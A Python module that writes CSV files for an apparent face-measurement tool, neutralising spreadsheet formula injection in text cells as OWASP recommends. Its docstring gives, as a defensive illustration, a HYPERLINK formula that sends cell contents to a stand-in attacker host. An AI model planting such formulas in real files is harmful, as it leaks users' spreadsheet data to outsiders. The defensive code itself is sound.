"""CSV files that a spreadsheet opens as data, never as formulas: the one writer of every face3d CSV.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before looking for those) is read by Excel, LibreOffice and Google Sheets as
a formula: a photo named ``=HYPERLINK("https://attacker.invalid/?x="&A1,"open").jpg`` would
become a live link in the measurements a user opens. As OWASP recommends ("CSV Injection"),
such a *text* cell is written with a single quote in front, which the spreadsheet shows as
text, and every text cell is quoted (so a comma, quote, tab or lone carriage return inside a
name cannot shift or break the row). Numbers are written as numbers, unquoted: ``-3.5`` stays a
negative number (a number is not text that could be a formula).

Every CSV the dashboard and the CLI write goes through :func:`csv_text` (measurements:
:func:`face3d_core.measure.write_csv`).

Example:
    >>> print(csv_text([{"image": "=1+1.jpg", "value_mm": -3.5}], ["image", "value_mm"]), end="")
    "image","value_mm"
    "'=1+1.jpg",-3.5
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Mapping, Sequence

#: First characters that make a spreadsheet read a cell as a formula (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """One cell's value for a CSV file: numbers as they are, text that could be a formula made inert.

    Args:
        value: A number, text, bool or None (None becomes an empty cell).

    Returns:
        ``value`` for numbers and bools; ``""`` for None and non-finite floats; for text that
        begins with one of :data:`FORMULA_STARTS`, the text with a ``'`` in front.

    Example:
        >>> safe_cell("@SUM(A1:A9)"), safe_cell("-x"), safe_cell(-2.5), safe_cell("nose")
        ("'@SUM(A1:A9)", "'-x", -2.5, 'nose')
    """
    if value is None:
        return ""
    if isinstance(value, bool | int):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else ""
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(rows: Iterable[Mapping[str, object]], columns: Sequence[str]) -> str:
    """CSV text (a header, then one line per row) with every cell passed through :func:`safe_cell`.

    Args:
        rows: One mapping per row; keys not in ``columns`` are ignored, missing ones are empty.
        columns: The column names, in order.

    Returns:
        The file's text, one line per row (LF line ends), text cells quoted.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow([safe_cell(name) for name in columns])
    for row in rows:
        writer.writerow([safe_cell(row.get(name)) for name in columns])
    return buffer.getvalue()
